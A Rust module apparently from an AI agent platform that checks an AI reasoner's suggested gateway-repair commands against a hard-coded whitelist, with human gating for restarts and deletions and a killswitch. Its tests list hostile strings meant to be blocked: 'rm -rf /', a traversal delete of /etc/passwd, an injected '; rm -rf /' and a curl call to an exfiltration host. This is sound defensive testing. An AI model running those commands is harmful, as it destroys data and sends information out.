// [apps/heartbeat/src/diagnostics.rs]
/*!
 * =================================================================
 * APARATO: SELF-REPAIR DIAGNOSTIC SKILL (V3.0 - HUMAN GATED)
 * CLASIFICACIÓN: APPLICATION LAYER (ESTRATO L1)
 * RESPONSABILIDAD: DIAGNÓSTICO DE GATEWAY CON LISTA BLANCA DE COMANDOS
 *
 * Fase 1: diagnosticar + alertar, jamás ejecutar reinicios. La lista
 * blanca está cableada en duro: no es configurable y se valida antes
 * de cualquier subproceso. El motor JAMÁS reinicia su propio gateway.
 *
 * La compuerta es un enum explícito que el llamador DEBE destructurar:
 * solo ReadOnly es ejecutable; HumanGated se sugiere en la alerta.
 * =================================================================
 */

use std::path::Path;
use std::time::Duration;

use serde::Serialize;
use tracing::{info, instrument, warn};

use boar_domain_guards::{check_killswitch, KillswitchStatus};
use boar_infra_feeds::{AlphaCall, ReasonerFeed};

const GATEWAY_SERVICE: &str = "boar-gateway.service";
const COMMAND_TIMEOUT: Duration = Duration::from_secs(10);

/// Compuerta de ejecución de un comando sugerido. El tipo fuerza al
/// llamador a decidir por match: no hay ruta accidental a la ejecución.
#[derive(Debug, Clone, Serialize, PartialEq, Eq)]
pub enum CommandGate {
    /// Auto-ejecutable durante el diagnóstico.
    ReadOnly,
    /// Sugerido al operador; JAMÁS auto-ejecutado.
    HumanGated,
    /// Fuera de la lista blanca.
    Blocked { reason: String },
}

impl CommandGate {
    pub fn label(&self) -> &'static str {
        match self {
            CommandGate::ReadOnly => "read-only",
            CommandGate::HumanGated => "human-gated",
            CommandGate::Blocked { .. } => "blocked",
        }
    }
}

fn is_bounded_digits(raw: &str, max_digits: usize) -> bool {
    !raw.is_empty() && raw.len() <= max_digits && raw.bytes().all(|byte| byte.is_ascii_digit())
}

fn is_session_path_segment(raw: &str) -> bool {
    !raw.is_empty()
        && raw.bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'_' || byte == b'-')
}

fn is_session_file(raw: &str) -> bool {
    raw.strip_suffix(".jsonl").is_some_and(|stem| {
        !stem.is_empty()
            && stem.bytes().all(|byte| {
                byte.is_ascii_alphanumeric() || byte == b'_' || byte == b'-' || byte == b'.'
            })
    })
}

/// Valida un comando contra la lista blanca cableada en duro.
pub fn validate_command(command: &str) -> CommandGate {
    let command = command.trim();
    let tokens: Vec<&str> = command.split_whitespace().collect();

    // Lectura: journalctl --user -u boar-gateway.service -n <1-999>
    if let ["journalctl", "--user", "-u", GATEWAY_SERVICE, "-n", lines] = tokens.as_slice() {
        if is_bounded_digits(lines, 3) {
            return CommandGate::ReadOnly;
        }
    }

    // Lectura: systemctl --user status boar-gateway.service
    if tokens == ["systemctl", "--user", "status", GATEWAY_SERVICE] {
        return CommandGate::ReadOnly;
    }

    // Lectura: git status / git log --oneline -<1-99>
    if tokens == ["git", "status"] {
        return CommandGate::ReadOnly;
    }
    if let ["git", "log", "--oneline", count] = tokens.as_slice() {
        if let Some(digits) = count.strip_prefix('-') {
            if is_bounded_digits(digits, 2) {
                return CommandGate::ReadOnly;
            }
        }
    }

    // Compuerta humana: systemctl --user restart boar-gateway.service
    if tokens == ["systemctl", "--user", "restart", GATEWAY_SERVICE] {
        return CommandGate::HumanGated;
    }

    // Compuerta humana: rm ~/.boar/agents/<agent>/sessions/<file>.jsonl
    if let ["rm", session_path] = tokens.as_slice() {
        if let Some(remainder) = session_path.strip_prefix("~/.boar/agents/") {
            let segments: Vec<&str> = remainder.split('/').collect();
            if let [agent, "sessions", file] = segments.as_slice() {
                if is_session_path_segment(agent) && is_session_file(file) {
                    return CommandGate::HumanGated;
                }
            }
        }
    }

    CommandGate::Blocked { reason: format!("BLOCKED, not on whitelist: {command}") }
}

/// Diagnóstico estructurado del skill de auto-reparación.
#[derive(Debug, Clone, Serialize, PartialEq)]
pub struct RepairDiagnosis {
    pub root_cause: String,
    pub severity: String,
    pub reasoning: String,
    pub suggested_command: Option<String>,
    pub command_gate: CommandGate,
    pub diagnostics_digest: String,
}

async fn run_read_only_command(command: &str) -> String {
    // Defensa en profundidad: revalidación inmediatamente antes del spawn.
    match validate_command(command) {
        CommandGate::ReadOnly => {}
        gate => return format!("=== {command} ===\nREFUSED: gate is {}\n", gate.label()),
    }

    let tokens: Vec<&str> = command.split_whitespace().collect();
    let spawn = tokio::process::Command::new(tokens[0])
        .args(&tokens[1..])
        .kill_on_drop(true)
        .output();

    match tokio::time::timeout(COMMAND_TIMEOUT, spawn).await {
        Ok(Ok(output)) => {
            let text = if output.stdout.is_empty() {
                String::from_utf8_lossy(&output.stderr).to_string()
            } else {
                String::from_utf8_lossy(&output.stdout).to_string()
            };
            format!("=== {command} ===\n{}\n", if text.is_empty() { "(no output)" } else { &text })
        }
        Ok(Err(e)) => format!("=== {command} ===\nERROR: {e}\n"),
        Err(_) => format!("=== {command} ===\nTIMEOUT after 10s\n"),
    }
}

/// Punto de entrada del diagnóstico. Respeta el killswitch; consulta al
/// razonador cuando está disponible; valida todo comando sugerido.
#[instrument(skip(reasoner))]
pub async fn diagnose_gateway(
    killswitch_path: &Path,
    status_only: bool,
    reasoner: Option<&dyn ReasonerFeed>,
) -> RepairDiagnosis {
    // El killswitch manda: sin diagnóstico, sin subprocesos.
    if let KillswitchStatus::Active { reason } = check_killswitch(killswitch_path) {
        return RepairDiagnosis {
            root_cause: "killswitch_active".into(),
            severity: "info".into(),
            reasoning: format!("Killswitch is active ({reason}). No diagnosis performed."),
            suggested_command: None,
            command_gate: CommandGate::Blocked { reason: "killswitch active".into() },
            diagnostics_digest: String::new(),
        };
    }

    let status_output =
        run_read_only_command(&format!("systemctl --user status {GATEWAY_SERVICE}")).await;

    if status_only {
        return RepairDiagnosis {
            root_cause: "status_check".into(),
            severity: "info".into(),
            reasoning: "Status-only check requested.".into(),
            suggested_command: None,
            command_gate: CommandGate::Blocked { reason: "status-only mode".into() },
            diagnostics_digest: status_output,
        };
    }

    let journal_output =
        run_read_only_command(&format!("journalctl --user -u {GATEWAY_SERVICE} -n 50")).await;
    let diagnostics_digest = format!("{journal_output}\n{status_output}");

    // Análisis del razonador (opcional). Sin razonador, el diagnóstico
    // degrada a evidencia cruda sin causa raíz inferida.
    let (root_cause, severity, reasoning, suggested_command) = match reasoner {
        Some(reasoner) => {
            let briefing = format!(
                "Analyze this gateway diagnostic output and suggest at most ONE \
                 whitelisted fix command:\n\n{diagnostics_digest}"
            );
            match reasoner.consult_alpha(&briefing).await {
                Ok(verdict) => {
                    let root_cause = match verdict.call {
                        AlphaCall::Trade => "degraded".to_string(),
                        AlphaCall::Nope => "healthy".to_string(),
                    };
                    // La primera línea con prefijo 'cmd:' es la sugerencia.
                    let suggested = verdict
                        .reasoning
                        .lines()
                        .find_map(|line| line.strip_prefix("cmd:"))
                        .map(|raw| raw.trim().to_string());
                    (root_cause, "warning".to_string(), verdict.reasoning, suggested)
                }
                Err(e) => {
                    warn!("⚪ [SELF_REPAIR]: reasoner analysis failed: {}", e);
                    ("unknown".to_string(), "warning".to_string(), e.to_string(), None)
                }
            }
        }
        None => (
            "unknown".to_string(),
            "info".to_string(),
            "No reasoner configured; raw diagnostics only.".to_string(),
            None,
        ),
    };

    // Validación estricta de la sugerencia: fuera de lista, fuera.
    let (suggested_command, command_gate) = match suggested_command {
        Some(command) => match validate_command(&command) {
            CommandGate::Blocked { reason } => {
                warn!("🟡 [SELF_REPAIR]: suggested command blocked: {}", reason);
                (None, CommandGate::Blocked { reason })
            }
            gate => (Some(command), gate),
        },
        None => (None, CommandGate::Blocked { reason: "no command suggested".into() }),
    };

    info!("🩺 [SELF_REPAIR]: root_cause={} gate={}", root_cause, command_gate.label());
    RepairDiagnosis {
        root_cause,
        severity,
        reasoning,
        suggested_command,
        command_gate,
        diagnostics_digest,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn certify_read_only_whitelist() {
        assert_eq!(
            validate_command("journalctl --user -u boar-gateway.service -n 50"),
            CommandGate::ReadOnly
        );
        assert_eq!(
            validate_command("systemctl --user status boar-gateway.service"),
            CommandGate::ReadOnly
        );
        assert_eq!(validate_command("git status"), CommandGate::ReadOnly);
        assert_eq!(validate_command("git log --oneline -10"), CommandGate::ReadOnly);
    }

    #[test]
    fn certify_human_gate_is_never_read_only() {
        assert_eq!(
            validate_command("systemctl --user restart boar-gateway.service"),
            CommandGate::HumanGated
        );
        assert_eq!(
            validate_command("rm ~/.boar/agents/hunter/sessions/session-2026.jsonl"),
            CommandGate::HumanGated
        );
    }

    #[test]
    fn certify_everything_else_is_blocked() {
        for hostile in [
            "rm -rf /",
            "systemctl --user stop boar-gateway.service",
            "journalctl --user -u boar-gateway.service -n 5000",
            "git log --oneline -100",
            "rm ~/.boar/agents/../../etc/passwd",
            "rm ~/.boar/agents/hunter/sessions/x.jsonl; rm -rf /",
            "curl http://evil.example/exfil",
            "",
        ] {
            assert!(
                matches!(validate_command(hostile), CommandGate::Blocked { .. }),
                "must block: {hostile}"
            );
        }
    }

    #[test]
    fn certify_session_file_shape_is_strict() {
        // Sin extensión .jsonl, fuera.
        assert!(matches!(
            validate_command("rm ~/.boar/agents/hunter/sessions/notes.txt"),
            CommandGate::Blocked { .. }
        ));
        // Separadores extra en el agente, fuera.
        assert!(matches!(
            validate_command("rm ~/.boar/agents/hun/ter/sessions/a.jsonl"),
            CommandGate::Blocked { .. }
        ));
    }

    #[tokio::test]
    async fn certify_killswitch_short_circuits_diagnosis() {
        let workdir = tempfile::tempdir().expect("workdir");
        let killswitch_path = workdir.path().join("killswitch.txt");
        std::fs::write(&killswitch_path, "halt").expect("write");

        let diagnosis = diagnose_gateway(&killswitch_path, false, None).await;
        assert_eq!(diagnosis.root_cause, "killswitch_active");
        assert!(diagnosis.diagnostics_digest.is_empty(), "no subprocess under killswitch");
    }
}
